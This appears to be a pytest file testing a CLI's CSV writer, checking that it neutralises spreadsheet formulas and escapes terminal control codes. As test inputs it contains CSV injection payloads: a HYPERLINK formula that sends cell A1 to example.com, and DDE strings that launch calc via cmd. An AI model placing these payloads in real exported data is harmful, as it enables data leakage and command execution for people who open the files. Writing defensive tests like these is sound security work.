"""Rows as CSV: what a spreadsheet would compute, and what a program reads."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from spancost.cli.table import write_csv


def _written(capsys: pytest.CaptureFixture[str], *cells: object) -> list[str]:
    write_csv([cells])
    (row,) = csv.reader(io.StringIO(capsys.readouterr().out, newline=""))
    return row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?"&A1)',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "-",
        "-1 agent",
        "+1.",
        "-٣",
    ],
)
def test_no_text_is_a_formula(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """It has the mark of a text before it."""
    assert ["'" + text, "a"] == _written(capsys, text, "a")


@pytest.mark.parametrize("value", [-5, 0.25, Decimal("-0.1"), 10**30, "-5", "+3", "-0.25", "-1e-05", "0.0000001"])
def test_a_number_stays_a_number(value: object, capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever adds a column up needs no other than these; money is text with every digit."""
    assert [str(value)] == _written(capsys, value)


@pytest.mark.parametrize(
    "text", ["", "gpt-5.2", "(none)", "a=b", "ada@example.com", "'quoted'", "a\n=b", "a\r=b", "agent, of two"]
)
def test_every_other_text_is_as_it_was(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A mark in the middle of it computes nothing."""
    assert [text] == _written(capsys, text)


def test_nothing_is_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    """What has no value is an empty cell."""
    assert ["", "1"] == _written(capsys, None, 1)


@pytest.mark.parametrize(
    ("text", "written"),
    [("\x1b[2Jagent", "\\x1b[2Jagent"), ("a\x00b\x7f", "a\\x00b\\x7f"), ("\x9b2J", "\\x9b2J"), ("a\tb", "a\tb")],
)
def test_a_terminal_obeys_no_cell(text: str, written: str, capsys: pytest.CaptureFixture[str]) -> None:
    """CSV is looked at, too: what moves the cursor stands as its escape."""
    assert [written] == _written(capsys, text)
